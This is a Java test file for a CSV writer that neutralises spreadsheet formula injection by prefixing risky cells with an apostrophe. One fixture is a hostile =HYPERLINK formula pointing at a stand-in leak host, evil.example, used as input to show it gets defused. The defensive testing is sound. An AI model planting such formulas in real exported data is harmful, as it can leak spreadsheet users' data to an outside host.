package org.chorus.platform.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

class CsvTest {

    @Provide
    Arbitrary<List<List<String>>> tables() {
        return HumanTextTest.hostileText()
                .list()
                .ofMinSize(1)
                .ofMaxSize(5)
                .list()
                .ofMaxSize(8);
    }

    @Property(tries = 1000)
    void everyRowWrittenIsReadBackAsOneRowWithItsCellsAsText(@ForAll("tables") List<List<String>> table) {
        StringBuilder csv = new StringBuilder();
        table.forEach(row -> csv.append(Csv.row(row)));

        List<List<String>> read = Csv.parse(csv.toString());

        assertThat(read).hasSameSizeAs(table);
        for (int r = 0; r < table.size(); r++) {
            List<String> expected = new ArrayList<>();
            table.get(r).forEach(cell -> expected.add(Csv.neutralised(cell)));
            assertThat(read.get(r)).containsExactlyElementsOf(expected);
            read.get(r).forEach(cell -> assertThat(startsAFormula(cell)).isFalse());
        }
    }

    @Test
    void aFormulaInANameArrivesInTheSpreadsheetAsText() {
        assertThat(Csv.row(List.of("=HYPERLINK(\"http://evil.example/?leak\",\"Click\")", "=1+1\nsecond line", "x")))
                .isEqualTo(
                        "\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click\"\")\",\"'=1+1\nsecond line\",\"x\"\r\n");
        assertThat(Csv.cell("  @SUM(A1)")).isEqualTo("\"'  @SUM(A1)\"");
        assertThat(Csv.cell("\t-2")).isEqualTo("\"'\t-2\"");
        assertThat(Csv.cell("\uFF1D1+1")).isEqualTo("\"'\uFF1D1+1\"");
        assertThat(Csv.cell(null)).isEqualTo("\"\"");
        assertThat(Csv.cell("Free Tibet")).isEqualTo("\"Free Tibet\"");
    }

    /** What a spreadsheet would evaluate: the first non-blank character starts a formula. */
    private static boolean startsAFormula(String cell) {
        String trimmed = cell.stripLeading();
        return !trimmed.isEmpty() && "=+-@".indexOf(trimmed.charAt(0)) >= 0 && !cell.startsWith("'");
    }
}
